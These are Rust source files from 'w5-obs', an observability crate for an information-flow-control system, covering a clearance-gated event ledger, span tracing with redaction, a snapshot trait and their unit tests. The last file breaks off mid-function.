        let ring = self.ring.lock();
        let mut reissued = 0u64;
        for e in ring.iter() {
            if !keep(&e.kind) {
                continue;
            }
            // Dense re-issue, exactly like a redacted view: the original
            // seq would count the excluded events.
            mix(&mut h, &reissued.to_le_bytes());
            reissued += 1;
            for tag in e.secrecy.iter() {
                mix(&mut h, &tag.to_le_bytes());
            }
            let kind = serde_json::to_string(&e.kind).expect("event kinds always serialize");
            mix(&mut h, kind.as_bytes());
        }
        drop(ring);
        let spans = self.spans.lock();
        for s in spans.iter() {
            mix(&mut h, &s.trace.to_le_bytes());
            mix(&mut h, &s.id.to_le_bytes());
            mix(&mut h, &s.parent.unwrap_or(0).to_le_bytes());
            mix(&mut h, s.name.as_bytes());
            mix(&mut h, s.layer.name().as_bytes());
            for tag in s.secrecy.iter() {
                mix(&mut h, &tag.to_le_bytes());
            }
        }
        h
    }

    fn count(&self, kind: &EventKind) -> u64 {
        let c = &self.counters[kind.layer().index()];
        c.events.fetch_add(1, Ordering::Relaxed);
        if kind.denied() {
            c.denied.fetch_add(1, Ordering::Relaxed);
        }
        let seq = self.seq.fetch_add(1, Ordering::Relaxed);
        self.maybe_republish();
        seq
    }

    fn push_ring(&self, event: Event) {
        let mut ring = self.ring.lock();
        if ring.len() >= self.ring_cap {
            ring.pop_front();
        }
        ring.push_back(event);
    }

    /// Republish the quantized aggregate at most once per [`REFRESH_EVERY`]
    /// recorded events. Between refreshes, redacted viewers read a stale
    /// snapshot — that staleness *is* the rate limit.
    fn maybe_republish(&self) {
        let now = self.seq.load(Ordering::Relaxed);
        let mut published = self.published.lock();
        if now < published.at + REFRESH_EVERY && published.at != 0 {
            return;
        }
        let mut agg = self.aggregate();
        for v in agg.events.values_mut() {
            *v -= *v % QUANTUM;
        }
        for v in agg.denied.values_mut() {
            *v -= *v % QUANTUM;
        }
        published.agg = agg;
        published.at = now.max(1);
    }
}

/// What a viewer with some clearance gets back.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
pub struct LedgerView {
    /// The clearance this view was computed for.
    pub clearance: ObsLabel,
    /// Events the clearance covers, oldest first. When `redacted`, `seq`
    /// is re-issued densely.
    pub events: Vec<Event>,
    /// True when any event or series was withheld; the aggregate is then
    /// the stale quantized snapshot rather than live counters.
    pub redacted: bool,
    /// Per-layer counts (live and exact iff `redacted == false`).
    pub aggregate: Aggregate,
    /// Latency digests for series whose label the clearance covers.
    pub latencies: BTreeMap<String, HistogramSummary>,
    /// Number of latency series withheld.
    pub latencies_withheld: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spawn_kind(pid: u64) -> EventKind {
        EventKind::ProcSpawn { pid, parent: 0, name: format!("p{pid}") }
    }

    #[test]
    fn record_and_full_view() {
        let l = Ledger::new();
        l.record(&ObsLabel::empty(), spawn_kind(1));
        l.record(&ObsLabel::singleton(7), EventKind::StoreRead {
            path: "/photos/bob/cat.jpg".into(),
            bytes: 4,
            allowed: true,
        });
        let omniscient = ObsLabel::from_tags([7]);
        let v = l.view(&omniscient);
        assert!(!v.redacted);
        assert_eq!(v.events.len(), 2);
        assert_eq!(v.aggregate.events["kernel"], 1);
        assert_eq!(v.aggregate.events["store"], 1);
        // Full views keep original sequence numbers.
        assert_eq!(v.events[0].seq, 0);
        assert_eq!(v.events[1].seq, 1);
    }

    #[test]
    fn low_clearance_cannot_recover_labeled_events() {
        let l = Ledger::new();
        // 5 public events, 3 secret ones (tag 9).
        for i in 0..5 {
            l.record(&ObsLabel::empty(), spawn_kind(i));
        }
        for _ in 0..3 {
            l.record(&ObsLabel::singleton(9), EventKind::StoreRead {
                path: "/diary/alice.txt".into(),
                bytes: 10,
                allowed: true,
            });
        }
        let v = l.view(&ObsLabel::empty());
        assert!(v.redacted);
        assert_eq!(v.events.len(), 5, "only public events visible");
        assert!(v.events.iter().all(|e| e.secrecy.is_empty()));
        assert!(
            v.events.iter().all(|e| !format!("{:?}", e.kind).contains("diary")),
            "no secret payload may appear"
        );
        // Sequence numbers are dense — gaps cannot count hidden events.
        for (i, e) in v.events.iter().enumerate() {
            assert_eq!(e.seq, i as u64);
        }
        // The aggregate is quantized: 8 total events floored to QUANTUM.
        let store = v.aggregate.events.get("store").copied().unwrap_or(0);
        assert_eq!(store % QUANTUM, 0, "redacted counts must be quantized");
        // The cleared viewer, by contrast, sees everything.
        let v9 = l.view(&ObsLabel::singleton(9));
        assert!(!v9.redacted);
        assert_eq!(v9.events.len(), 8);
        assert_eq!(v9.aggregate.events["store"], 3);
    }

    #[test]
    fn redacted_aggregate_is_rate_limited() {
        let l = Ledger::new();
        l.record(&ObsLabel::singleton(5), spawn_kind(0));
        let before = l.view(&ObsLabel::empty()).aggregate.clone();
        // Record fewer than REFRESH_EVERY further events: the published
        // snapshot must not move, no matter how often we poll.
        for i in 0..(REFRESH_EVERY - 2) {
            l.record(&ObsLabel::singleton(5), spawn_kind(i));
            assert_eq!(l.view(&ObsLabel::empty()).aggregate, before, "snapshot moved early");
        }
        // Crossing the refresh boundary (plus quantization slack) updates it.
        for i in 0..(REFRESH_EVERY + QUANTUM) {
            l.record(&ObsLabel::singleton(5), spawn_kind(i));
        }
        let after = l.view(&ObsLabel::empty()).aggregate;
        assert!(after.events["kernel"] > before.events["kernel"]);
        assert_eq!(after.events["kernel"] % QUANTUM, 0);
    }

    #[test]
    fn ring_evicts_oldest_first() {
        let l = Ledger::with_capacity(4);
        for i in 0..10 {
            l.record(&ObsLabel::empty(), spawn_kind(i));
        }
        let v = l.view(&ObsLabel::empty());
        assert_eq!(v.events.len(), 4);
        let pids: Vec<u64> = v
            .events
            .iter()
            .map(|e| match &e.kind {
                EventKind::ProcSpawn { pid, .. } => *pid,
                other => panic!("unexpected {other:?}"),
            })
            .collect();
        assert_eq!(pids, vec![6, 7, 8, 9], "oldest entries evicted, order kept");
        // Counters survive eviction.
        assert_eq!(v.aggregate.events["kernel"], 10);
    }

    #[test]
    fn check_sampling_always_keeps_denials() {
        let l = Ledger::new();
        for _ in 0..100 {
            l.count_check("flow", true, &ObsLabel::empty());
        }
        for _ in 0..3 {
            l.count_check("flow", false, &ObsLabel::singleton(2));
        }
        // Counters are exact.
        let agg = l.aggregate();
        assert_eq!(agg.events["difc"], 103);
        assert_eq!(agg.denied["difc"], 3);
        // Ring holds all denials but only sampled passes.
        let v = l.view(&ObsLabel::from_tags([2]));
        let denials = v
            .events
            .iter()
            .filter(|e| matches!(&e.kind, EventKind::LabelCheck { allowed: false, .. }))
            .count();
        let passes = v
            .events
            .iter()
            .filter(|e| matches!(&e.kind, EventKind::LabelCheck { allowed: true, .. }))
            .count();
        assert_eq!(denials, 3);
        assert!(passes < 100 && passes >= 100 / CHECK_SAMPLE as usize, "{passes}");
    }

    #[test]
    fn latency_series_gated_by_union_label() {
        let l = Ledger::new();
        let d = std::time::Duration::from_micros(10);
        l.time("net.http", &ObsLabel::empty(), d);
        l.time("platform.export_check", &ObsLabel::singleton(4), d);
        l.time("platform.export_check", &ObsLabel::empty(), d);
        let low = l.view(&ObsLabel::empty());
        assert!(low.latencies.contains_key("net.http"));
        assert!(
            !low.latencies.contains_key("platform.export_check"),
            "series that ever carried tag 4 is hidden from empty clearance"
        );
        assert_eq!(low.latencies_withheld, 1);
        let high = l.view(&ObsLabel::singleton(4));
        assert_eq!(high.latencies["platform.export_check"].count, 2);
    }

    #[test]
    fn snapshot_json_roundtrips() {
        let l = Ledger::new();
        l.record(&ObsLabel::empty(), EventKind::HttpRequest {
            method: "GET".into(),
            path: "/app/photos".into(),
            status: 200,
            micros: 123,
        });
        l.time("net.http", &ObsLabel::empty(), std::time::Duration::from_micros(123));
        let json = l.snapshot_json(&ObsLabel::empty()).unwrap();
        let back: LedgerView = serde_json::from_str(&json).unwrap();
        assert_eq!(back.events.len(), 1);
        assert_eq!(back.latencies["net.http"].count, 1);
        assert!(!back.redacted);
    }
}
