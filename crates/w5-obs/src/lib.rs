//! # w5-obs — the label-aware flow ledger
//!
//! Unified tracing, metrics and audit for the whole W5 stack. Every layer
//! (kernel, DIFC rules, platform, net, store) records typed [`Event`]s into
//! one process-wide [`Ledger`]; each event carries the **secrecy label of
//! the flow it describes**, and reading the ledger is itself a labeled
//! operation: [`Ledger::view`] takes the viewer's clearance, returns the
//! events that clearance covers verbatim, and collapses everything else
//! into rate-limited, quantized, label-aggregated counts. Observability
//! must not become the §3.5 covert channel it exists to watch for.
//!
//! Layering: this crate sits *below* `w5-difc` so that even the flow rules
//! themselves can be instrumented. It therefore cannot use [`w5_difc::Label`];
//! instead [`ObsLabel`] holds the raw sorted tag ids, and clearance checks
//! are plain subset tests — exactly the no-privilege secrecy-flow rule
//! (`S_event ⊆ S_viewer`).
//!
//! Cost model: counters are lock-free atomics on every path; the bounded
//! event ring and the latency registry take a short mutex. The hottest
//! call sites (per-message flow checks in `w5-difc::rules`) use
//! [`Ledger::count_check`], which only touches atomics for passes and
//! reserves ring writes for denials plus a deterministic 1-in-16 sample
//! of passes.

#![forbid(unsafe_code)]

pub mod event;
pub mod histogram;
pub mod label;
pub mod ledger;
pub mod snapshot;

pub use event::{Event, EventKind, Layer};
pub use histogram::{Histogram, HistogramSummary};
pub use label::ObsLabel;
pub use ledger::{Aggregate, Ledger, LedgerView};
pub use snapshot::{snapshot_json, Snapshot};

use std::cell::RefCell;
use std::sync::{Arc, OnceLock};

static GLOBAL: OnceLock<Ledger> = OnceLock::new();

thread_local! {
    static SCOPED: RefCell<Vec<Arc<Ledger>>> = const { RefCell::new(Vec::new()) };
}

/// The process-wide ledger all instrumentation records into.
pub fn global() -> &'static Ledger {
    GLOBAL.get_or_init(Ledger::new)
}

/// Redirects this thread's [`record`]/[`time`]/[`count_check`] calls into a
/// private ledger for the guard's lifetime. Guards nest; the innermost
/// ledger wins. The chaos harness uses this to collect a per-run event
/// stream whose [`Ledger::digest`] is unpolluted by concurrently running
/// tests (which write to the global ledger from their own threads).
pub struct ScopedLedger {
    _private: (),
}

impl Drop for ScopedLedger {
    fn drop(&mut self) {
        SCOPED.with(|s| {
            s.borrow_mut().pop();
        });
    }
}

/// Install `ledger` as this thread's recording target until the returned
/// guard drops.
pub fn scoped(ledger: Arc<Ledger>) -> ScopedLedger {
    SCOPED.with(|s| s.borrow_mut().push(ledger));
    ScopedLedger { _private: () }
}

fn current() -> Option<Arc<Ledger>> {
    SCOPED.with(|s| s.borrow().last().cloned())
}

/// Record an event into the current ledger (this thread's scoped ledger if
/// one is installed, the process-wide global otherwise). The secrecy label
/// must be the label of the *flow the event describes* (the data moved,
/// the process scheduled, the response checked) — not the label of the
/// code recording it.
pub fn record(secrecy: ObsLabel, kind: EventKind) {
    match current() {
        Some(l) => l.record(secrecy, kind),
        None => global().record(secrecy, kind),
    }
}

/// Record a latency sample for a named operation into the current ledger.
pub fn time(op: &str, secrecy: &ObsLabel, d: std::time::Duration) {
    match current() {
        Some(l) => l.time(op, secrecy, d),
        None => global().time(op, secrecy, d),
    }
}

/// Hot-path flow-check accounting on the current ledger (see
/// [`Ledger::count_check`]).
pub fn count_check(op: &'static str, allowed: bool, secrecy: ObsLabel) {
    match current() {
        Some(l) => l.count_check(op, allowed, secrecy),
        None => global().count_check(op, allowed, secrecy),
    }
}
