//! # w5-obs — the label-aware flow ledger
//!
//! Unified tracing, metrics and audit for the whole W5 stack. Every layer
//! (kernel, DIFC rules, platform, net, store) records typed [`Event`]s into
//! one process-wide [`Ledger`]; each event carries the **secrecy label of
//! the flow it describes**, and reading the ledger is itself a labeled
//! operation: [`Ledger::view`] takes the viewer's clearance, returns the
//! events that clearance covers verbatim, and collapses everything else
//! into rate-limited, quantized, label-aggregated counts. Observability
//! must not become the §3.5 covert channel it exists to watch for.
//!
//! Layering: this crate sits *below* `w5-difc` so that even the flow rules
//! themselves can be instrumented. It therefore cannot use [`w5_difc::Label`];
//! instead [`ObsLabel`] holds the raw sorted tag ids, and clearance checks
//! are plain subset tests — exactly the no-privilege secrecy-flow rule
//! (`S_event ⊆ S_viewer`).
//!
//! Cost model: counters are lock-free atomics on every path; the bounded
//! event ring and the latency registry take a short mutex. The hottest
//! call sites (per-message flow checks in `w5-difc::rules`) use
//! [`Ledger::count_check`], which only touches atomics for passes and
//! reserves ring writes for denials plus a deterministic 1-in-16 sample
//! of passes.

#![forbid(unsafe_code)]

pub mod event;
pub mod histogram;
pub mod label;
pub mod ledger;
pub mod snapshot;
pub mod trace;

pub use event::{Event, EventKind, Layer};
pub use histogram::{Histogram, HistogramSummary};
pub use label::ObsLabel;
pub use ledger::{Aggregate, Ledger, LedgerView};
pub use snapshot::{snapshot_json, Snapshot};
pub use trace::{SpanRecord, TraceContext, TraceView, TRACE_HEADER};

use std::cell::RefCell;
use std::sync::{Arc, OnceLock};

static GLOBAL: OnceLock<Ledger> = OnceLock::new();

thread_local! {
    static SCOPED: RefCell<Vec<Arc<Ledger>>> = const { RefCell::new(Vec::new()) };
}

/// The process-wide ledger all instrumentation records into.
pub fn global() -> &'static Ledger {
    GLOBAL.get_or_init(Ledger::new)
}

/// Redirects this thread's [`record`]/[`time`]/[`count_check`] calls into a
/// private ledger for the guard's lifetime. Guards nest; the innermost
/// ledger wins. The chaos harness uses this to collect a per-run event
/// stream whose [`Ledger::digest`] is unpolluted by concurrently running
/// tests (which write to the global ledger from their own threads).
pub struct ScopedLedger {
    _private: (),
}

impl Drop for ScopedLedger {
    fn drop(&mut self) {
        SCOPED.with(|s| {
            s.borrow_mut().pop();
        });
    }
}

/// Install `ledger` as this thread's recording target until the returned
/// guard drops.
pub fn scoped(ledger: Arc<Ledger>) -> ScopedLedger {
    SCOPED.with(|s| s.borrow_mut().push(ledger));
    ScopedLedger { _private: () }
}

fn current() -> Option<Arc<Ledger>> {
    SCOPED.with(|s| s.borrow().last().cloned())
}

/// The innermost scoped ledger installed on *this* thread, if any.
///
/// Scoped ledgers are thread-local, so a worker thread spawned inside a
/// `scoped(..)` region records into the global ledger unless it installs
/// its own scope. Harnesses that fan work out across threads (the
/// differential concurrency oracle in `w5-sim`, the multi-threaded
/// kernel bench) capture the parent's ledger with this before spawning
/// and re-install it per worker via [`scoped`].
pub fn current_scoped() -> Option<Arc<Ledger>> {
    current()
}

/// Record an event into the current ledger (this thread's scoped ledger if
/// one is installed, the process-wide global otherwise). The secrecy label
/// must be the label of the *flow the event describes* (the data moved,
/// the process scheduled, the response checked) — not the label of the
/// code recording it.
pub fn record(secrecy: &ObsLabel, kind: EventKind) {
    match current() {
        Some(l) => l.record(secrecy, kind),
        None => global().record(secrecy, kind),
    }
}

/// Record a latency sample for a named operation into the current ledger.
pub fn time(op: &str, secrecy: &ObsLabel, d: std::time::Duration) {
    match current() {
        Some(l) => l.time(op, secrecy, d),
        None => global().time(op, secrecy, d),
    }
}

/// Hot-path flow-check accounting on the current ledger (see
/// [`Ledger::count_check`]).
pub fn count_check(op: &'static str, allowed: bool, secrecy: &ObsLabel) {
    match current() {
        Some(l) => l.count_check(op, allowed, secrecy),
        None => global().count_check(op, allowed, secrecy),
    }
}

/// Configure head-based trace sampling on the current ledger (see
/// [`Ledger::set_trace_sampling`]).
pub fn set_trace_sampling(rate: f64, seed: u64) {
    match current() {
        Some(l) => l.set_trace_sampling(rate, seed),
        None => global().set_trace_sampling(rate, seed),
    }
}

// ---- the thread-local span stack ----
//
// Spans nest lexically within a thread: `span()` makes the new span a
// child of the innermost open one, or a fresh root (new trace id, head
// sampling decision) when the stack is empty. Server threads start their
// root from the wire's `TraceContext` via `span_with_remote`, which is
// how cross-instance trees stitch. The guard records the completed
// `SpanRecord` on drop — into the ledger that was current when the span
// *started*, so a span never straddles two ledgers.

/// A live entry on the thread's span stack.
#[derive(Clone, Copy)]
struct ActiveSpan {
    trace: u64,
    /// 0 when the trace is unsampled (no record will be written, so no
    /// id is spent on it).
    id: u64,
    sampled: bool,
}

thread_local! {
    static SPAN_STACK: RefCell<Vec<ActiveSpan>> = const { RefCell::new(Vec::new()) };
}

/// Where a span records on drop: the ledger captured at span start.
enum Target {
    Global,
    Scoped(Arc<Ledger>),
}

impl Target {
    fn capture() -> Target {
        match current() {
            Some(l) => Target::Scoped(l),
            None => Target::Global,
        }
    }

    fn ledger(&self) -> &Ledger {
        match self {
            Target::Global => global(),
            Target::Scoped(l) => l,
        }
    }
}

/// Pending record data for a sampled span.
struct OpenSpan {
    target: Target,
    trace: u64,
    id: u64,
    parent: Option<u64>,
    name: String,
    layer: Layer,
    secrecy: ObsLabel,
    start_us: u64,
}

/// Closes its span on drop. Unsampled guards are inert (no timestamps,
/// nothing recorded); they still hold the stack slot so descendants and
/// outgoing wire contexts see a consistent trace.
pub struct SpanGuard {
    open: Option<OpenSpan>,
    /// Guards pop a thread-local stack: keep them on the thread that
    /// made them.
    _not_send: std::marker::PhantomData<*const ()>,
}

impl SpanGuard {
    /// Union extra secrecy into the span's label, for operations whose
    /// flow label is only known at the end (e.g. `platform.invoke` learns
    /// the response label after the app ran).
    pub fn add_secrecy(&mut self, extra: &ObsLabel) {
        if let Some(open) = &mut self.open {
            if !extra.is_subset(&open.secrecy) {
                open.secrecy = open.secrecy.union(extra);
            }
        }
    }
}

impl Drop for SpanGuard {
    fn drop(&mut self) {
        SPAN_STACK.with(|s| {
            s.borrow_mut().pop();
        });
        if let Some(open) = self.open.take() {
            let ledger = open.target.ledger();
            ledger.record_span(SpanRecord {
                trace: open.trace,
                id: open.id,
                parent: open.parent,
                name: open.name,
                layer: open.layer,
                secrecy: open.secrecy,
                start_us: open.start_us,
                end_us: ledger.now_us(),
            });
        }
    }
}

fn push_span(
    target: Target,
    trace: u64,
    parent: Option<u64>,
    sampled: bool,
    name: &str,
    layer: Layer,
    secrecy: &ObsLabel,
) -> SpanGuard {
    let open = if sampled {
        let ledger = target.ledger();
        let id = ledger.alloc_id();
        let start_us = ledger.now_us();
        SPAN_STACK.with(|s| s.borrow_mut().push(ActiveSpan { trace, id, sampled }));
        Some(OpenSpan {
            target,
            trace,
            id,
            parent,
            name: name.to_string(),
            layer,
            secrecy: secrecy.clone(),
            start_us,
        })
    } else {
        SPAN_STACK.with(|s| s.borrow_mut().push(ActiveSpan { trace, id: 0, sampled }));
        None
    };
    SpanGuard { open, _not_send: std::marker::PhantomData }
}

/// Open a span: a child of the innermost open span on this thread, or a
/// fresh root (new trace id, head sampling decision) when none is open.
/// `secrecy` is the label of the flow the span times, like [`record`].
pub fn span(name: &str, layer: Layer, secrecy: &ObsLabel) -> SpanGuard {
    let target = Target::capture();
    match SPAN_STACK.with(|s| s.borrow().last().copied()) {
        Some(top) => {
            let parent = (top.id != 0).then_some(top.id);
            push_span(target, top.trace, parent, top.sampled, name, layer, secrecy)
        }
        None => {
            let ledger = target.ledger();
            let trace = ledger.alloc_id();
            let sampled = ledger.trace_sampled(trace);
            push_span(target, trace, None, sampled, name, layer, secrecy)
        }
    }
}

/// Open a root span continuing a remote trace (the server side of a wire
/// hop). Falls back to [`span`] semantics when `remote` is absent or the
/// thread already has an open span.
pub fn span_with_remote(
    name: &str,
    layer: Layer,
    secrecy: &ObsLabel,
    remote: Option<&TraceContext>,
) -> SpanGuard {
    let local_top = SPAN_STACK.with(|s| s.borrow().last().copied());
    match (remote, local_top) {
        (Some(ctx), None) => {
            let parent = (ctx.parent != 0).then_some(ctx.parent);
            push_span(Target::capture(), ctx.trace, parent, ctx.sampled, name, layer, secrecy)
        }
        _ => span(name, layer, secrecy),
    }
}

/// Open a child span only when this thread already has an open *sampled*
/// trace; `None` otherwise. This is the hot-path form (kernel send/spawn):
/// outside a sampled trace it is one thread-local read — no ids, no
/// clocks, no allocation.
pub fn span_if_active(name: &str, layer: Layer, secrecy: &ObsLabel) -> Option<SpanGuard> {
    let top = SPAN_STACK.with(|s| s.borrow().last().copied())?;
    if !top.sampled {
        return None;
    }
    let parent = (top.id != 0).then_some(top.id);
    Some(push_span(Target::capture(), top.trace, parent, true, name, layer, secrecy))
}

/// Keeps an adopted context on this thread's span stack; pops on drop,
/// records nothing.
pub struct ContextGuard {
    /// Pops a thread-local stack on drop: keep it on the adopting thread.
    _not_send: std::marker::PhantomData<*const ()>,
}

impl Drop for ContextGuard {
    fn drop(&mut self) {
        SPAN_STACK.with(|s| {
            s.borrow_mut().pop();
        });
    }
}

/// Adopt `ctx` as this thread's innermost span *without opening a new
/// span*: spans opened while the guard lives become children of the
/// remote parent, exactly as if they had opened on the originating
/// thread. This is the worker half of a same-process queue hand-off —
/// the net pipeline captures [`current_context`] at submit and
/// re-installs it here; the cross-process half is [`span_with_remote`],
/// which additionally opens a server-side root.
pub fn adopt_context(ctx: &TraceContext) -> ContextGuard {
    SPAN_STACK.with(|s| {
        s.borrow_mut().push(ActiveSpan { trace: ctx.trace, id: ctx.parent, sampled: ctx.sampled })
    });
    ContextGuard { _not_send: std::marker::PhantomData }
}

/// The wire context for an outgoing request from the current span, if a
/// trace is open on this thread (`parent` = the innermost open span).
pub fn current_context() -> Option<TraceContext> {
    SPAN_STACK.with(|s| {
        s.borrow()
            .last()
            .map(|top| TraceContext { trace: top.trace, parent: top.id, sampled: top.sampled })
    })
}
