//! A uniform "give me a serializable snapshot" trait.
//!
//! Counter blocks across the stack (`PerimeterStats`, `PlatformStats`,
//! `SanitizeStats`, `KernelStats`, …) are live structures full of atomics
//! or incrementing fields; exporting them means flattening to a plain
//! struct of values. Implementors define that plain struct as
//! [`Snapshot::View`] and the flattening as [`Snapshot::snapshot`]; any
//! snapshot can then be shipped through `serde_json` uniformly.

/// Anything that can flatten itself into a serializable point-in-time view.
pub trait Snapshot {
    /// The plain-struct snapshot type.
    type View: serde::Serialize + serde::Deserialize;

    /// Capture the current values.
    fn snapshot(&self) -> Self::View;
}

/// Serialize any snapshot source straight to a JSON string.
pub fn snapshot_json<S: Snapshot>(source: &S) -> serde_json::Result<String> {
    serde_json::to_string(&source.snapshot())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicU64, Ordering};

    #[derive(Default)]
    struct Hits(AtomicU64);

    #[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
    struct HitsView {
        hits: u64,
    }

    impl Snapshot for Hits {
        type View = HitsView;
        fn snapshot(&self) -> HitsView {
            HitsView { hits: self.0.load(Ordering::Relaxed) }
        }
    }

    #[test]
    fn snapshot_serializes_and_roundtrips() {
        let h = Hits::default();
        h.0.fetch_add(3, Ordering::Relaxed);
        let json = snapshot_json(&h).unwrap();
        assert_eq!(json, r#"{"hits":3}"#);
        let back: HitsView = serde_json::from_str(&json).unwrap();
        assert_eq!(back, h.snapshot());
    }
}
