//! Label-aware causal tracing: spans, wire context, redaction and
//! critical-path analysis.
//!
//! A [`SpanRecord`] is one timed operation with a parent edge, so a whole
//! request reconstructs as a tree — across instances too, because the
//! federation protocol forwards a compact [`TraceContext`] (trace id,
//! parent span id, sampling decision) in the [`TRACE_HEADER`] request
//! header. Every span carries the secrecy [`ObsLabel`] of the flow it
//! timed, and reading traces is clearance-gated exactly like
//! `Ledger::view`: [`redact_spans`] keeps the *structure* of spans the
//! viewer is not cleared for (tree shape is treated like the ledger's
//! quantized aggregates) but replaces their names with
//! [`REDACTED_NAME`], hides their labels, and floors their start and
//! duration to [`SPAN_QUANTUM_US`]. Without the flooring, span timings
//! would be the §3.5 covert channel in its purest form: a tainted app
//! could modulate secret bits into microsecond durations that any
//! low-clearance trace reader could poll out.
//!
//! Sampling is head-based and deterministic: the decision is a pure
//! function of the trace id and a seed ([`sample_decision`]), made once
//! at the root and propagated on the wire, so a chaos replay with the
//! same seed samples the same traces and `Ledger::digest` stays
//! bit-identical.
//!
//! The analysis helpers here ([`render_tree`], [`critical_path`],
//! [`layer_attribution`], [`slowest_traces`]) are the whole back end of
//! the `w5trace` CLI; the binary only parses flags and JSON.

use crate::event::Layer;
use crate::label::ObsLabel;
use std::collections::BTreeMap;

/// HTTP header that carries a [`TraceContext`] between instances.
pub const TRACE_HEADER: &str = "x-w5-trace";

/// Redacted span starts and durations are floored to this many
/// microseconds (10ms), the trace analogue of the ledger's `QUANTUM`.
pub const SPAN_QUANTUM_US: u64 = 10_000;

/// Name substituted for spans the viewer is not cleared for.
pub const REDACTED_NAME: &str = "[redacted]";

/// The compact trace context propagated on the wire.
///
/// Encodes as `"<trace:016x>-<parent:016x>-<0|1>"`. Span ids are
/// ledger-local; cross-instance stitching assumes peers draw from
/// disjoint id spaces (one shared ledger, or instance-prefixed ids).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TraceContext {
    /// The trace this request belongs to.
    pub trace: u64,
    /// The span on the calling side that caused this request (0 = none).
    pub parent: u64,
    /// The head-based sampling decision, made once at the root.
    pub sampled: bool,
}

impl TraceContext {
    /// Render as the [`TRACE_HEADER`] value.
    pub fn encode(&self) -> String {
        format!("{:016x}-{:016x}-{}", self.trace, self.parent, u8::from(self.sampled))
    }

    /// Parse a [`TRACE_HEADER`] value; `None` on any malformation (a bad
    /// header starts a fresh trace rather than failing the request).
    pub fn parse(s: &str) -> Option<TraceContext> {
        let mut parts = s.trim().split('-');
        let trace = u64::from_str_radix(parts.next()?, 16).ok()?;
        let parent = u64::from_str_radix(parts.next()?, 16).ok()?;
        let sampled = match parts.next()? {
            "0" => false,
            "1" => true,
            _ => return None,
        };
        if parts.next().is_some() {
            return None;
        }
        Some(TraceContext { trace, parent, sampled })
    }
}

/// The deterministic head-based sampling decision: FNV-1a of the trace id
/// xor the seed, compared against a threshold (`rate * u64::MAX`). Pure,
/// so replaying a chaos schedule replays the same decisions.
pub fn sample_decision(trace: u64, seed: u64, threshold: u64) -> bool {
    const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
    const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;
    let mut h = FNV_OFFSET;
    for &b in &(trace ^ seed).to_le_bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(FNV_PRIME);
    }
    h <= threshold
}

/// One completed span: a timed operation with a parent edge and the
/// secrecy label of the flow it timed. Timestamps are microseconds since
/// the owning ledger's epoch; `Ledger::digest` mixes every field of this
/// record *except* the two timestamps, so wall-clock jitter never
/// perturbs a chaos replay digest.
#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct SpanRecord {
    /// Trace this span belongs to.
    pub trace: u64,
    /// This span's id (unique within the recording ledger).
    pub id: u64,
    /// Parent span id; `None` for a local root. A root started from a
    /// wire context keeps the remote parent id so cross-instance trees
    /// stitch.
    pub parent: Option<u64>,
    /// Operation name, e.g. `"platform.invoke"`.
    pub name: String,
    /// Layer whose span counter this record bumped.
    pub layer: Layer,
    /// Secrecy label of the flow the span timed.
    pub secrecy: ObsLabel,
    /// Start, µs since the ledger epoch.
    pub start_us: u64,
    /// End, µs since the ledger epoch.
    pub end_us: u64,
}

impl SpanRecord {
    /// Wall time this span covered.
    pub fn duration_us(&self) -> u64 {
        self.end_us.saturating_sub(self.start_us)
    }

    /// The redacted form a viewer without clearance sees: structure
    /// kept, name and label hidden, start and duration floored to
    /// [`SPAN_QUANTUM_US`].
    pub fn redacted(&self) -> SpanRecord {
        let start = self.start_us - self.start_us % SPAN_QUANTUM_US;
        let dur = self.duration_us();
        SpanRecord {
            trace: self.trace,
            id: self.id,
            parent: self.parent,
            name: REDACTED_NAME.to_string(),
            layer: self.layer,
            secrecy: ObsLabel::empty(),
            start_us: start,
            end_us: start + (dur - dur % SPAN_QUANTUM_US),
        }
    }
}

/// What a viewer with some clearance gets back from `Ledger::trace_view`.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
pub struct TraceView {
    /// The clearance this view was computed for.
    pub clearance: ObsLabel,
    /// All retained spans, oldest first; spans the clearance does not
    /// cover appear in [`SpanRecord::redacted`] form.
    pub spans: Vec<SpanRecord>,
    /// Number of spans that were redacted.
    pub redacted_spans: u64,
}

/// Apply the clearance gate to a span list: spans whose secrecy is a
/// subset of `clearance` pass verbatim, everything else is
/// [`SpanRecord::redacted`]. Returns the gated list and the redaction
/// count. The `w5trace` CLI applies this again on top of whatever the
/// export already hid — redaction composes (a redacted span is empty-
/// labeled, so it passes any clearance unchanged).
pub fn redact_spans(spans: &[SpanRecord], clearance: &ObsLabel) -> (Vec<SpanRecord>, u64) {
    let mut out = Vec::with_capacity(spans.len());
    let mut redacted = 0u64;
    for s in spans {
        if s.secrecy.is_subset(clearance) {
            out.push(s.clone());
        } else {
            redacted += 1;
            out.push(s.redacted());
        }
    }
    (out, redacted)
}

/// One step on a trace's critical path.
#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct CriticalPathStep {
    /// Span name (possibly [`REDACTED_NAME`]).
    pub name: String,
    /// Layer the span ran in.
    pub layer: Layer,
    /// Total wall time of the span.
    pub total_us: u64,
    /// Wall time not covered by any child (attributed to this span).
    pub self_us: u64,
}

/// All distinct trace ids present, ascending.
pub fn trace_ids(spans: &[SpanRecord]) -> Vec<u64> {
    let mut ids: Vec<u64> = spans.iter().map(|s| s.trace).collect();
    ids.sort_unstable();
    ids.dedup();
    ids
}

/// Spans of one trace in stable tree order: siblings sorted by
/// `(start_us, id)` so redacted views (where quantized starts tie) order
/// identically across runs.
fn children_of(spans: &[SpanRecord]) -> BTreeMap<Option<u64>, Vec<usize>> {
    let have: std::collections::BTreeSet<u64> = spans.iter().map(|s| s.id).collect();
    let mut map: BTreeMap<Option<u64>, Vec<usize>> = BTreeMap::new();
    for (i, s) in spans.iter().enumerate() {
        // A span whose parent is not in the set is a root of this view
        // (e.g. the remote half of a stitched trace was exported by the
        // peer instance).
        let key = match s.parent {
            Some(p) if have.contains(&p) => Some(p),
            _ => None,
        };
        map.entry(key).or_default().push(i);
    }
    for v in map.values_mut() {
